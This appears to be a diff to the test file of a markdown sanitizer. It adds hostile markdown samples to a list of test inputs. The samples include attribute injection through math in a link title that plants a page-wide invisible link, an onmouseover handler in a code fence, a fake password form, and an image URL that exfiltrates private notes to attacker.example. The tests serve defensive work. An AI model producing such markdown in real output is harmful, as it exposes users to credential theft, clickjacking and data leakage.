@@ -25,6 +25,20 @@ EVIL = "attacker.example"
 
 # (name, hostile markdown from the model or a source)
 HOSTILE = [
+    # Math put back into a link's title after the sanitizer closed the attribute with its quote
+    # (issue 40): a page-wide invisible link. The second closes its own math delimiters so the
+    # page's KaTeX step leaves the planted attributes alone.
+    (
+        "math closing a link title",
+        '[x](https://attacker.example "t $a" href="https://attacker.example" target="_blank" '
+        'style="position:fixed;width:100vw;height:100vh" b$")',
+    ),
+    (
+        "math closing its own delimiters in a link title",
+        '[x](https://attacker.example "t $a\\) " href="https://attacker.example" target="_blank" '
+        'style="position:fixed;width:100vw;height:100vh" x=\\($")',
+    ),
+    ("math in a code fence's language", '```$a" onmouseover="alert(1)$\nx\n```'),
     ("escaped backtick form", "\\`<form action='https://attacker.example/x'><input type=password name=p></form>\\`"),
     ("escaped backtick image", "see \\`<img src=https://attacker.example/p.png onerror=alert(1)>\\`"),
     ("markdown image exfiltration", "Summary ![](https://attacker.example/log?d=my%20private%20notes)"),
